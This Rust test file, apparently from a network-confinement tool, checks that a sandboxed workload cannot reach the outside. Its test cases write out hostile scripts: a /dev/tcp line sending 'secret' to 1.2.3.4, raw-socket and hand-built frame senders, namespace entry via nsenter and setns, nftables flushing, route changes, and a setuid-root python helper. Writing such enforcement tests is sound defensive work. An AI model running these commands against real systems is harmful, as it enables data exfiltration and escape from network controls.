//! What a hostile program tries with what is installed, in the workload's place as the workload really is: tools of the network, of
//! namespaces and of other users, and sockets that write whole packets.

use super::*;

/// A byte to an address that no rule allows.
const OUT: &str = "timeout 1 bash -c 'echo secret > /dev/tcp/1.2.3.4/443'";

/// An ICMP message, and a datagram as a whole frame to everybody on the wire.
const RAW: &str = "\
import socket
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
raw.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ('1.2.3.4', 0))";
const FRAME: &str = "\
import socket, struct
packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
ends = socket.inet_aton('10.0.2.15') + socket.inet_aton('1.2.3.4')
head = struct.pack('!BBHHHBB', 0x45, 0, 34, 0, 0, 64, 17)
total = sum(struct.unpack('!9H', head + ends))
total = (total & 0xffff) + (total >> 16)
check = struct.pack('!H', ~((total & 0xffff) + (total >> 16)) & 0xffff)
datagram = struct.pack('!HHHH', 9, 9, 14, 0) + b'secret'
wire = bytes([255] * 6 + [2, 0, 0, 0, 0, 1, 8, 0])
packet.sendto(wire + head + check + ends + datagram, ('{DEVICE}', 0))";
/// Enters the network of a process that it has a descriptor of: pidfd_open(2) and setns(2) by their numbers.
const BY_DESCRIPTOR: &str = "\
import ctypes, socket, time
libc = ctypes.CDLL(None)
process = libc.syscall(434, {PID}, 0)
if libc.syscall(308, process, 0x40000000) != 0:
    raise SystemExit('refused')
stream = socket.socket()
stream.setblocking(False)
stream.connect_ex(('1.2.3.4', 443))
time.sleep(0.1)";

/// Who tries it where nothing keeps anybody from it, and where.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Unprotected {
    /// Root, in the network that has the device to the outside.
    Root,
    /// Root in a network that leads nowhere.
    RootElsewhere,
    /// The workload's user, there.
    UserElsewhere,
    /// The workload's user, in the network that has the device.
    User,
}

/// How an attempt is recorded.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Recorded {
    /// By the egress broker.
    Dropped,
    /// By the supervisor of the filter, as this call.
    Refused(&'static str),
    /// By nobody: the call is one of those that a workload needs, and the kernel itself refuses what is asked by it, for want of a
    /// privilege.
    Unseen,
}

/// Something that a workload tries, as a script. `{OUT}` is [`OUT`], `{DEVICE}` the device of the network that it is tried in,
/// `{PID}` a process of the guest's network, `{HELPER}` an interpreter that everybody runs as root.
struct Try {
    what: &'static str,
    script: String,
    /// What stands in its way where nothing else does, and what takes it away again.
    obstacle: Option<[&'static str; 2]>,
    by: Unprotected,
    recorded: Recorded,
}

/// All packets of this network are dropped.
const DROPPED: Option<[&str; 2]> = Some([
    "nft 'add table inet confide; add chain inet confide output { type filter hook output priority 0; policy drop; }'",
    "nft flush ruleset",
]);

/// All attempts. Each ends in a packet to the outside, if it gets so far.
fn attempts() -> Vec<Try> {
    use Recorded::{Dropped, Refused, Unseen};
    use Unprotected::{Root, RootElsewhere, User, UserElsewhere};
    let python = |program: &str| format!("/usr/bin/python3 -c \"{program}\"");
    let netfilter = Refused("socket(AF_NETLINK, SOCK_RAW, 12)");
    let row = |what, script: String, obstacle, by, recorded| Try { what, script, obstacle, by, recorded };
    vec![
        row("flushes rules", "nft flush ruleset && {OUT}".to_owned(), DROPPED, Root, netfilter),
        row(
            "adds a rule",
            "nft insert rule inet confide output accept && {OUT}".to_owned(),
            DROPPED,
            Root,
            netfilter,
        ),
        row(
            "changes the device",
            "ip link set {DEVICE} up && ip route replace 1.2.3.4/32 via 10.0.2.2 dev {DEVICE} && {OUT}"
                .to_owned(),
            Some(["ip link set near down", "ip link set near up; ip route add default via 10.0.2.2"]),
            Root,
            Unseen,
        ),
        row(
            "changes a route",
            "ip route replace 1.2.3.4/32 via 10.0.2.2 dev {DEVICE} && {OUT}".to_owned(),
            Some(["ip route replace blackhole 1.2.3.4/32", "ip route del 1.2.3.4/32"]),
            Root,
            Unseen,
        ),
        row(
            "enters the guest's network",
            "nsenter -t {PID} -n {OUT}".to_owned(),
            None,
            RootElsewhere,
            Unseen,
        ),
        row(
            "enters it by its file",
            "nsenter --net=/proc/{PID}/ns/net {OUT}".to_owned(),
            None,
            RootElsewhere,
            Unseen,
        ),
        row(
            "enters it by a descriptor of its process",
            python(BY_DESCRIPTOR),
            None,
            RootElsewhere,
            Refused("setns"),
        ),
        row(
            "enters it by a helper of root's",
            format!("{{HELPER}} -c \"{BY_DESCRIPTOR}\""),
            None,
            UserElsewhere,
            Refused("setns"),
        ),
        row("opens a raw socket", python(RAW), None, Root, Refused("socket(AF_INET, SOCK_RAW, 1)")),
        row("writes a frame", python(FRAME), None, Root, Refused("socket(AF_PACKET, SOCK_RAW, 0)")),
        row(
            "is root of a namespace of users",
            "unshare -Ur {OUT}".to_owned(),
            None,
            Root,
            Refused("unshare(0x10000000)"),
        ),
        row(
            "starts a child that leaves its session",
            format!("setsid sh -c \"sh -c '{}'\"", OUT.replace('\'', "\\\"")),
            None,
            User,
            Dropped,
        ),
    ]
}

/// Takes the device to the outside into a network of its own; only root of the guest's network can, and then nobody else has it.
const TAKES_THE_DEVICE: &str = "unshare -n sh -c \"nsenter -t {PID} -n ip link set {DEVICE} netns \\$\\$ && \
    ip addr add 10.0.2.15/24 dev {DEVICE} && ip link set {DEVICE} up && ip route add default via 10.0.2.2 && {OUT}\"";

/// A program of root's that everybody runs as root.
struct Helper(std::path::PathBuf);

impl Helper {
    fn install() -> Self {
        let path = std::env::current_exe().unwrap().with_extension("helper");
        sh(&format!("cp /usr/bin/python3 {0}; chmod 4755 {0}", path.display()));
        Self(path)
    }

    fn script(&self, script: &str, device: &str) -> String {
        let filled = script.replace("{OUT}", OUT).replace("{DEVICE}", device);
        let filled = filled.replace("{PID}", &std::process::id().to_string());
        filled.replace("{HELPER}", &self.0.display().to_string())
    }
}

impl Drop for Helper {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// That an attempt arrives at the far side where nothing keeps anybody from it, and does not behind what stands in its way.
fn arrives(far: &FarSide, helper: &Helper, attempt: &Try) {
    let what = attempt.what;
    if let Some([obstacle, _]) = attempt.obstacle {
        sh(obstacle);
        assert!(!far.hears(|| _ = as_root(OUT)), "nothing stands in the way of who {what}");
    }
    let script = helper.script(&attempt.script, "near");
    let heard = far.hears(|| {
        let (by, script) = (attempt.by, script.clone());
        let run = move || match by {
            Unprotected::Root | Unprotected::RootElsewhere => as_root(&script),
            Unprotected::User | Unprotected::UserElsewhere => as_user(&script),
        };
        match by {
            Unprotected::Root | Unprotected::User => _ = run(),
            _ => _ = NetworkThread::start("elsewhere").unwrap().run(run).unwrap(),
        }
    });
    assert!(heard, "who {what} does not reach the far side unprotected: {script}");
    if let Some([_, gone]) = attempt.obstacle {
        sh(gone);
    }
}

#[test]
fn a_workload_leaves_neither_its_network_nor_changes_it() {
    const NAME: &str = "enforcement::tests::installed::a_workload_leaves_neither_its_network_nor_changes_it";
    if acts_as_broker() {
        return;
    }
    in_a_network_with_users(NAME, || {
        let helper = Helper::install();
        // What takes the device away comes first: the far side goes with it.
        let far = FarSide::new();
        let script = helper.script(TAKES_THE_DEVICE, "near");
        assert!(
            far.hears(|| _ = as_root(&script)),
            "who takes the device does not reach the far side unprotected"
        );
        drop(far);
        let far = FarSide::new();
        let all = attempts();
        all.iter().for_each(|attempt| arrives(&far, &helper, attempt));
        let mut guest = Guest::new(far, NAME);
        hear_packets(&mut guest);
        guest.lock();
        let arrived = guest.far.packets();
        // The programs are there, for what is harmless; that `nft` is shows in what it is refused.
        for script in [
            "ip link",
            "nsenter --version",
            "unshare --version",
            "/usr/bin/python3 -c 'import socket; socket.socket()'",
        ] {
            assert_eq!(guest.script(script), (true, vec![]), "{script}");
        }
        for attempt in &all {
            let (what, before) = (attempt.what, guest.drops());
            let (_, refused) = guest.script(&helper.script(&attempt.script, "lo"));
            match attempt.recorded {
                Recorded::Dropped => {
                    assert!(eventually(|| guest.drops() > before), "who {what} has no record: {refused:?}");
                }
                Recorded::Refused(call) => assert_eq!(refused, [call], "who {what}"),
                Recorded::Unseen => assert_eq!(refused, [""; 0], "who {what}"),
            }
            assert_eq!(guest.far.packets(), arrived, "who {what} gets out");
        }
        let (_, refused) = guest.script(&helper.script(TAKES_THE_DEVICE, "lo"));
        assert_eq!(refused, ["unshare(0x40000000)"]);
        // Nor are rules read, which would tell of what the guest lets out.
        assert_eq!(
            guest.script("nft list ruleset"),
            (false, vec!["socket(AF_NETLINK, SOCK_RAW, 12)".to_owned()])
        );
        assert_eq!(guest.far.packets(), arrived);
        // Everything is as it was.
        let rules = guest.enforcement.rules.clone();
        assert!(guest.workload(move || nft::is_in_force(&rules).unwrap()));
        let (devices, routes) = guest.workload(|| (sh("ip -o link show up"), sh("ip route show 1.2.3.4")));
        assert!(devices.contains(" lo: ") && routes.is_empty(), "{devices}{routes}");
        // Abstract sockets belong to networks, too: the guest's are not there.
        let address = rustix::net::SocketAddrUnix::new_abstract_name(b"confide-test").unwrap();
        let listening =
            rustix::net::socket(rustix::net::AddressFamily::UNIX, rustix::net::SocketType::STREAM, None)
                .unwrap();
        rustix::net::bind(&listening, &address).unwrap();
        rustix::net::listen(&listening, 1).unwrap();
        let reach = move || {
            let (family, kind) = (rustix::net::AddressFamily::UNIX, rustix::net::SocketType::STREAM);
            rustix::net::connect(rustix::net::socket(family, kind, None).unwrap(), &address).is_ok()
        };
        assert!(reach.clone()(), "from the guest's own network it is reached");
        assert!(!guest.workload(reach));
    });
}
